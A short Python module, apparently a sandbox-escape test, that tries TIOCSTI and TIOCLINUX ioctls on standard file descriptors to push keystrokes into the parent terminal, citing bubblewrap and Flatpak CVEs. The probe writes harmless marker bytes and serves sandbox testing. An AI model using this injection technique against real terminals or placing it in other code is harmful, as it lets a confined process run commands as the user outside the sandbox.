"""A server puts letters into the terminal of whoever started it, which a shell runs when it ends.

Source: CVE-2017-5226 of bubblewrap, by TIOCSTI; CVE-2023-28100 of Flatpak, by TIOCLINUX.
Seen: it has no terminal.
"""

import fcntl
import os

from escaping import HELD, Escaping

TIOCSTI, TIOCLINUX = 0x5412, 0x541C


class Attack(Escaping):
    def escape(self):
        found = []
        for place in (0, 1, 2):
            for request in (TIOCSTI, TIOCLINUX, 1 << 32 | TIOCSTI):
                try:
                    fcntl.ioctl(place, request, b"\3x")
                except (OSError, OverflowError):
                    continue
                found.append(f"{request:#x} at {place}")
        if found:
            return ", ".join(found)
        os.close(os.open("/dev/tty", os.O_RDWR))
        return "opened"


SEEN = HELD
